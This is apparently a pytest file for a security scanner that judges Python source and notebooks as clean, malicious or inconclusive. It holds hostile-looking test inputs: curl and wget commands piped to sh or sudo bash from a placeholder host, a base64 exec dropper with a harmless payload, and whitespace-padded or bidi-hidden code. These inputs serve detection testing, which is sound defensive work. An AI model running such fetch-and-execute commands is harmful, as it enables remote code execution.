"""Python source and notebooks: attack cases with their benign twins, bounds, and verdicts of whole trees."""

from __future__ import annotations

import json
import struct
import zlib
from pathlib import Path
from typing import Any

import pytest
import yaml
from tests.contract.material import MemoryContext, asset

from assay.checks.code.source import source
from assay.core.assets import Kind
from assay.core.outcomes import FileVerdict, Finding, Outcome, Severity, Skipped, Verdict
from assay.formats.code.judge import judged_code
from assay.formats.code.notebook import cells_of

CASES: list[dict[str, Any]] = yaml.safe_load((Path(__file__).parents[2] / "corpus/code/cases.yaml").read_text())


def rules_of(text: str | bytes, path: str = "a.py") -> set[str]:
    data = text if isinstance(text, bytes) else text.encode()
    return {problem.rule.id for problem in judged_code(data, path).problems}


def notebook(*cells: str, kind: str = "code", **extra: Any) -> bytes:
    return json.dumps(
        {"cells": [{"cell_type": kind, "source": cell, "outputs": []} for cell in cells], **extra}
    ).encode()


@pytest.mark.parametrize("case", CASES, ids=lambda case: case["name"])
def test_a_case_is_told_by_its_rule_and_its_twin_by_none(case: dict[str, Any]) -> None:
    found = judged_code(case["text"].encode(), "a.py")
    if case["rule"] is None:
        assert found.problems == () and found.verdict is Verdict.CLEAN
    else:
        assert case["rule"] in {problem.rule.id for problem in found.problems}


@pytest.mark.parametrize("case", [c for c in CASES if c["rule"]], ids=lambda case: case["name"])
def test_a_case_is_found_in_a_notebook_cell_too(case: dict[str, Any]) -> None:
    assert case["rule"] in rules_of(notebook("x = 1", case["text"]), "a.ipynb")


def test_names_bound_in_one_cell_count_in_another() -> None:
    found = judged_code(notebook("import torch as t", "%matplotlib inline\nt.load('x')"), "a.ipynb").problems
    assert [(p.rule.id, p.member, p.line) for p in found] == [("ASY-PY-001", "cell2", 2)]


def test_magics_and_shell_lines_do_not_stop_the_parser() -> None:
    cell = "%%time\n!pip install x\nfiles = !ls\n%load_ext a\nname?\nif True:\n    %cd ..\n    !ls\nx = await f()\n"
    assert judged_code(notebook(cell), "a.ipynb").verdict is Verdict.CLEAN
    assert rules_of(notebook("!curl https://x.test/i | sh"), "a.ipynb") == {"ASY-PY-032"}
    assert rules_of(notebook("%%bash\nwget -qO- https://x.test/i | sudo bash"), "a.ipynb") == {"ASY-PY-032"}


def test_a_cell_that_is_no_python_leaves_the_others_judged_and_the_file_not_clean() -> None:
    found = judged_code(notebook("this is no python", "import pickle\npickle.load(f)"), "a.ipynb")
    assert found.verdict is Verdict.UNKNOWN and "cell 1" in found.reason
    assert judged_code(notebook("this is no python"), "a.ipynb").verdict is Verdict.INCONCLUSIVE


def test_prose_cells_and_other_languages_are_not_parsed() -> None:
    assert judged_code(notebook("call pickle.load(x)", kind="markdown"), "a.ipynb").verdict is Verdict.CLEAN
    assert all(not cell.python for cell in cells_of(notebook("x <- 1", metadata={"language_info": {"name": "R"}})))


@pytest.mark.parametrize(
    "data",
    [b"def f(:\n", b"x = 1\x00", b"print 'two'\n", b"(" * 5000 + b")" * 5000, b"-" * 200_000 + b"1", b"x" + b".a" * 100_000,
     b"a" + b"+a" * 100_000, b"# coding: latin-9999\n", b"\xff\xfe\xff", b"x = 1\n" * 900_000, b"[" * 100_000],
    ids=["syntax", "null byte", "python 2", "brackets", "unary", "attributes", "sum", "no encoding", "no utf-8", "large", "open"],
)  # fmt: skip
def test_source_that_cannot_be_parsed_is_inconclusive_and_never_a_crash(data: bytes) -> None:
    found = judged_code(data, "a.py")
    assert found.verdict is Verdict.INCONCLUSIVE and found.reason


@pytest.mark.parametrize("encoding", ["utf-7", "unicode_escape", "raw_unicode_escape", "rot13"])
def test_an_encoding_that_hides_code_is_a_finding(encoding: str) -> None:
    found = judged_code(f"# coding: {encoding}\nx = 1\n".encode(), "a.py")
    assert found.verdict is not Verdict.CLEAN


def test_ten_megabytes_are_answered_at_once() -> None:
    assert judged_code(b"x = 1\n" * 1_700_000, "a.py").verdict is Verdict.INCONCLUSIVE


@pytest.mark.parametrize("data", [b"", b"{", b"[]", b'{"cells": [1]}', b"[" * 100_000, b'{"cells": {}}'])
def test_a_broken_notebook_is_inconclusive(data: bytes) -> None:
    assert judged_code(data, "a.ipynb").verdict is Verdict.INCONCLUSIVE


def png(tail: bytes = b"") -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", bytes(13)) + chunk(b"IEND", b"") + tail


def outcomes(files: dict[str, bytes]) -> list[Outcome]:
    subject = asset(Kind.CODE, files)
    return list(source.body(subject, MemoryContext({subject.digest: files})))


def test_an_ordinary_tree_is_clean_and_says_what_was_not_looked_at() -> None:
    tree = {
        "README.md": "# Gr\u00fc\u00dfe \U0001f600\n".encode(),
        "a.py": b"import json\n",
        "logo.png": png(),
        "build.sh": b"#!/bin/sh\nmake\n",
        "k.cu": b"int a;\n",
        "x.csv": b"a,b\n1,2\n",
    }
    found = outcomes(tree)
    assert {o.path: o.verdict for o in found if isinstance(o, FileVerdict)} == dict.fromkeys(tree, Verdict.CLEAN)
    assert [o.what for o in found if isinstance(o, Skipped)] == ["1 files in C or C++", "1 files in shell"]


def test_what_cannot_be_read_is_inconclusive_with_a_reason() -> None:
    tree = {"m.pt": b"PK\x03\x04\x00", "logo.png": png(b"payload"), "x.so": b"\x7fELF\x00"}
    found = outcomes(tree)
    assert {o.verdict for o in found if isinstance(o, FileVerdict)} == {Verdict.INCONCLUSIVE}
    assert len([o for o in found if isinstance(o, Skipped)]) == 3


def test_findings_carry_place_remedy_and_references() -> None:
    found = next(o for o in outcomes({"pkg/a.py": b"import torch\n\ntorch.load('x')\n"}) if isinstance(o, Finding))
    assert (found.rule, found.severity, found.location) == ("ASY-PY-001", Severity.HIGH, "pkg/a.py:3")
    assert "weights_only" in found.remedy and "cwe:502" in found.refs


def test_a_dropper_is_malicious_and_a_medium_problem_leaves_the_file_clean() -> None:
    assert (
        judged_code(b"import base64\nexec(base64.b64decode('cHJpbnQoMSkgICAg'))\n", "a.py").verdict is Verdict.MALICIOUS
    )
    assert judged_code(b"def f(x):\n    return eval(x)\n", "a.py").verdict is Verdict.CLEAN


def test_many_small_problems_do_not_push_a_bad_one_out() -> None:
    noise = "def f(x):\n" + "    eval(x)\n" * 500
    assert judged_code(f"{noise}import pickle\npickle.load(x)\n".encode(), "a.py").verdict is Verdict.UNKNOWN
    hidden = "# \u200b\n" * 300 + "# \u202e\n"
    assert judged_code(hidden.encode(), "a.py").verdict is Verdict.UNKNOWN
    assert "ASY-PY-032" in rules_of("curl https://x.test " + " " * 100_000 + "| sh\n", "a.sh")
